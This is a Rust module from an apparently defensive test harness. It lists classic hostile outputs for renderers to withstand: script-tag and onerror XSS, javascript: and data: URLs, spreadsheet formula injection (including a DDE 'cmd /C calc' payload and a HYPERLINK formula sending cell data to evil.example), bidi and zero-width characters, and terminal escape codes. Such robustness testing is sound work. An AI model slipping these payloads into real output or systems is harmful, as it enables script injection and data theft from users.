//! Output that attacks whoever shows it: markup, scripts, formulas, control characters.
//!
//! Each entry is a classic of its kind. They are data for the product's renderers to survive.

use crate::chance::Dice;

const TEXTS: [&str; 12] = [
    "<script>alert('output')</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script><!--",
    "[click](javascript:alert(3)) and ![x](javascript:alert(4))",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a | b || c\n| --- | --- |\n```\ncode fence\n``` `tick` \\| \\",
    "line\u{2028}separator\u{2029}paragraph\r\ncarriage\rreturn",
    "\u{202e}desrever\u{202c} \u{2066}isolated\u{2069} \u{200b}zero\u{feff}width",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} bell\u{8}",
    "\"quoted\", 'single', comma, {{template}} ${expr} %s %00 \u{0}nul",
];

const URLS: [&str; 5] = [
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "https://user:pass@evil.example/\"><script>alert(1)</script>",
    "//evil.example/protocol-relative",
    "https://ok.example/a)b(c|d?e=<f>",
];

/// One hostile text.
pub(super) fn text(dice: &mut Dice) -> String {
    (*dice.pick(&TEXTS)).to_owned()
}

/// Every hostile text, a paragraph each.
pub(super) fn all() -> String {
    TEXTS.join("\n\n")
}

/// One hostile address.
pub(super) fn url(dice: &mut Dice) -> String {
    (*dice.pick(&URLS)).to_owned()
}
